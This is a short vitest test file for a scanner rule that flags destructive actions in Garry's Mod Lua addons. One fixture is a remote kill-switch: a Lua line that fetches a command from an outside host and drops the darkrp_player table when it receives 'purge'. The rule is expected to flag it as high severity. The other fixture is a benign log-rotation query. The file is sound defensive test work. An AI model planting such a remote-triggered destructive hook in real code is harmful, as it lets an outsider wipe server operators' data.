// Valid and invalid cases of the `destructive_action` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './destructive_action.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('destructive_action', () => {
  it('remote order drops tables', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/cmd", function(b) if b == "purge" then sql.Query("DROP TABLE darkrp_player") end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('own log rotation', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'sql.Query("DELETE FROM mylogs WHERE time < 5")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
